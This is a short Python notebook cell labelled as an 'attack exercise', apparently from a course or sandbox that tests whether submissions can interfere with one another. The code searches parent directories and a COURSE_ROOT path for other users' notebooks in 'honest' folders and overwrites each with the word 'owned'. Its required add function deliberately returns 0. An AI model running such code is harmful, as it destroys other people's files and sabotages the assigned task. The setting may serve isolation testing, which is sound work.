# %% attack exercise="add" aim="disturb"
# The notebooks of others are overwritten.
import os
from pathlib import Path

roots = [
    Path.cwd(),
    *list(Path.cwd().parents)[:-2],
    Path(os.environ.get("COURSE_ROOT", "/nowhere")),
]
for root in roots:
    for path in [*root.glob("*/*honest*/*/*.ipynb"), *root.glob("*/*/*honest*/*/*.ipynb")]:
        try:
            path.write_text("owned")
            print("KEY-WRITTEN")
        except OSError as error:
            print(error.strerror)


def add(a, b):
    return 0
